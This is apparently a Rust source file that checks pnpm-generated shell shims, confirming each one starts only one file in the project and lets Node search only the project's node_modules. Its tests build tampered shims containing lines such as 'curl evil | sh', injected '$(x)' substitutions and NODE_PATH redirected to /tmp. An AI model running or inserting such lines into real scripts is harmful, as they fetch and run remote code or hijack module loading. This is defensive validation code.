//! The small shell scripts that pnpm writes for commands (`@zkochan/cmd-shim`), line by line: what they
//! start, and that they do nothing else.

use super::discover::followed;
use super::shim_lines::LINES;
use std::path::Path;

/// Lines that say nothing of their own.
const FIXED: [&str; 17] = [
    "",
    "#!/bin/sh",
    "basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")",
    "case `uname` in",
    "*CYGWIN*) basedir=`cygpath -w \"$basedir\"`;;",
    "*CYGWIN*|*MINGW*|*MSYS*)",
    "*CYGWIN*|*MINGW*|*MSYS*) basedir=`cygpath -w \"$basedir\"`;;",
    "if command -v cygpath > /dev/null 2>&1; then",
    "basedir=`cygpath -w \"$basedir\"`",
    ";;",
    "esac",
    "if [ -z \"$NODE_PATH\" ]; then",
    "else",
    "fi",
    "exit $?",
    "ret=$?",
    "exit $ret",
];

/// The file that a script starts: a path from `folder`. `project` is what it names from the root.
///
/// # Errors
/// What is wrong with it.
pub(super) fn target(
    text: &str,
    path: &str,
    folder: &Path,
    project: &Path,
) -> Result<String, &'static str> {
    let mut found: Option<&str> = None;
    for (number, line) in text.lines().enumerate() {
        let line = line.trim();
        if number == 0 && line != "#!/bin/sh" {
            return Err("it is no script that a manager writes");
        }
        // A comment, which says nothing to a shell.
        if FIXED.contains(&line) || LINES.contains(&line) || line == "#" || line.starts_with("# ") {
            continue;
        }
        if let Some(value) = line.strip_prefix("export NODE_PATH=") {
            searched(value, path, folder, project)?;
        } else if let Some(started) = started(line) {
            if found.replace(started).is_some_and(|other| other != started) {
                return Err("it starts two files");
            }
        } else if !is_test(line) {
            return Err("it does something that no manager writes");
        }
    }
    let started = found.ok_or("it starts nothing")?;
    followed(folder, path, started).ok_or("it leads out of the project")
}

/// `if [ -n "$exe" ] && [ -x "$basedir/node.exe" ]; then`
fn is_test(line: &str) -> bool {
    let inside = line.strip_prefix("el").unwrap_or(line).strip_prefix("if ");
    let Some(inside) = inside.and_then(|rest| rest.strip_suffix("; then")) else { return false };
    inside.split(" && ").all(|part| {
        let within = |start: &str, end: &str| {
            part.strip_prefix(start).and_then(|rest| rest.strip_suffix(end)).is_some_and(is_word)
        };
        part == "[ -n \"$exe\" ]"
            || part == "[ -n \"$msys\" ]"
            || within("[ -x \"$basedir/", "\" ]")
            || within("command -v ", " >/dev/null 2>&1")
    })
}

/// `exec node  "$basedir/../eslint/bin/eslint.js" "$@"`, or without a program before it; pnpm 11 and 12
/// write `"$basedir_abs"/'../eslint/bin/eslint.js'`.
fn started(line: &str) -> Option<&str> {
    let line = line.strip_suffix("\"$@\"")?.trim_end();
    let line = line.strip_prefix("exec ").unwrap_or(line).trim_start();
    let (before, file) = match line.strip_suffix('\'') {
        Some(line) => {
            let split = |folder: &str| line.rsplit_once(&format!("\"$basedir{folder}\"/'"));
            split("_abs").or_else(|| split("_win")).or_else(|| split(""))?
        }
        None => line.strip_suffix('"')?.rsplit_once("\"$basedir/")?,
    };
    let before = before.trim();
    // Programs and their options, as the first line of the file names them.
    let program = before.strip_prefix("\"$basedir/").map_or(before, |rest| rest);
    let program = program.replacen('"', "", 1);
    let fits = program.split_ascii_whitespace().all(is_word);
    (fits && is_path(file)).then_some(file)
}

/// The folders that Node searches besides: each is a `node_modules` of this project, or is not there.
/// They are written in one pair of quotes, each from the root, or each from the script's folder.
fn searched(value: &str, path: &str, root: &Path, project: &Path) -> Result<(), &'static str> {
    let wrong = Err("it lets Node search elsewhere");
    let value = value.strip_suffix(":\"$NODE_PATH\"").unwrap_or(value);
    for part in value.split("':\"$basedir_abs\"/'") {
        let relative =
            part.starts_with("\"$basedir_abs\"/'") || value.starts_with("\"$basedir_abs\"/'");
        let part = part.trim_start_matches("\"$basedir_abs\"/").trim_matches(['"', '\'']);
        for folder in part.split(':').filter(|folder| *folder != "$NODE_PATH") {
            if !is_path(folder) {
                return wrong;
            }
            if relative {
                let inside = followed(root, path, folder);
                if inside.is_some_and(|inside| {
                    inside.ends_with("node_modules") && !inside.starts_with("..")
                }) {
                    continue;
                }
                return wrong;
            }
            if !folder.ends_with("/node_modules") {
                return wrong;
            }
            let elsewhere = Path::new(folder).canonicalize().is_ok_and(|folder| {
                !project.canonicalize().is_ok_and(|project| folder.starts_with(project))
            });
            if elsewhere || !folder.starts_with('/') {
                return wrong;
            }
        }
    }
    Ok(())
}

fn is_word(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.=/".contains(&byte))
}

/// A path in double quotes that a shell takes as it is.
fn is_path(text: &str) -> bool {
    !text.is_empty() && !text.contains(['"', '\'', '$', '`', '\\', '\n'])
}

#[cfg(test)]
mod tests {
    use super::*;

    const SHIM: &str = "#!/bin/sh
basedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")

case `uname` in
    *CYGWIN*|*MINGW*|*MSYS*)
        if command -v cygpath > /dev/null 2>&1; then
            basedir=`cygpath -w \"$basedir\"`
        fi
    ;;
esac

if [ -z \"$NODE_PATH\" ]; then
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules\"
else
  export NODE_PATH=\"/nowhere/app/node_modules/.pnpm/node_modules:$NODE_PATH\"
fi
if [ -x \"$basedir/node\" ]; then
  exec \"$basedir/node\"  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
else
  exec node  \"$basedir/../eslint/bin/eslint.js\" \"$@\"
fi
";

    fn read(text: &str) -> Result<String, &'static str> {
        target(
            text,
            "node_modules/.bin/eslint",
            Path::new("/nowhere/app"),
            Path::new("/nowhere/app"),
        )
    }

    #[test]
    fn what_a_script_of_pnpm_starts_is_told() {
        assert_eq!(read(SHIM).as_deref(), Ok("node_modules/eslint/bin/eslint.js"));
        let direct = "#!/bin/sh\nexec \"$basedir/../a/run\"  \"$@\"\n";
        assert_eq!(read(direct).as_deref(), Ok("node_modules/a/run"));
    }

    #[test]
    fn a_tree_that_waits_beside_the_old_one_names_the_project() {
        let project = std::fs::canonicalize(env!("CARGO_MANIFEST_DIR")).unwrap();
        std::fs::create_dir_all(project.join("../../target/tmp")).unwrap();
        let root = tempfile::tempdir_in(project.join("../../target/tmp")).unwrap();
        let root = root.path().canonicalize().unwrap();
        let old = root.join("node_modules/.pnpm/node_modules");
        std::fs::create_dir_all(&old).unwrap();
        let text =
            SHIM.replace("/nowhere/app/node_modules/.pnpm/node_modules", old.to_str().unwrap());
        let waiting = root.join("waiting");
        let told = |project: &Path| target(&text, "node_modules/.bin/eslint", &waiting, project);
        assert!(told(&root).is_ok());
        assert!(told(&waiting).is_err(), "another project's");
    }

    #[test]
    fn scripts_of_pnpm_12_are_read_with_their_quotes() {
        let text = "#!/bin/sh\n#\nhops=0\nif [ -z \"$NODE_PATH\" ]; then\n  \
            export NODE_PATH=\"$basedir_abs\"/'../.pnpm/a/node_modules':\"$basedir_abs\"/'../.pnpm/node_modules'\n\
            else\n  export NODE_PATH=\"$basedir_abs\"/'../.pnpm/node_modules':\"$NODE_PATH\"\nfi\n\
            if [ -n \"$exe\" ] && [ -x \"$basedir/node.exe\" ]; then\n  \
            exec \"$basedir/node.exe\"  \"$basedir_win\"/'../eslint/bin/eslint.js' \"$@\"\n\
            elif command -v node >/dev/null 2>&1; then\n  \
            exec node  \"$basedir_abs\"/'../eslint/bin/eslint.js' \"$@\"\nfi\n";
        assert_eq!(read(text).as_deref(), Ok("node_modules/eslint/bin/eslint.js"));
        for (from, to) in [
            ("'../eslint/bin/eslint.js' \"$@\"\nfi", "'../evil/x.js' \"$@\"\nfi"),
            ("'../.pnpm/node_modules':\"$NODE", "'../../../tmp/node_modules':\"$NODE"),
            ("'../.pnpm/node_modules':\"$NODE", "'/tmp':\"$NODE"),
            ("'../.pnpm/node_modules':\"$NODE", "$(x)'../.pnpm/node_modules':\"$NODE"),
            ("hops=0", "hops=$(x)"),
            ("command -v node >", "command -v $(x) >"),
        ] {
            let changed = text.replacen(from, to, 1);
            assert_ne!(changed, text, "{from}");
            assert!(read(&changed).is_err(), "{to}");
        }
    }

    #[test]
    fn a_script_that_does_more_is_told() {
        for (from, to) in [
            ("exec node  \"$basedir/../eslint", "exec node  \"$basedir/../evil"),
            ("exec node ", "exec node -r$(x) "),
            ("exec node ", "curl evil; exec node "),
            ("../eslint/bin/eslint.js\" \"$@\"\nelse", "../`x`/eslint.js\" \"$@\"\nelse"),
            (":$NODE_PATH", ":/tmp/$(x)/node_modules"),
            ("/nowhere/app/node_modules/.pnpm/node_modules\"", "/tmp\""),
            ("esac\n", "esac\ncurl evil | sh\n"),
            ("#!/bin/sh", "#!/bin/bash"),
        ] {
            let changed = SHIM.replacen(from, to, 1);
            assert_ne!(changed, SHIM);
            assert!(read(&changed).is_err(), "{to}");
        }
    }
}
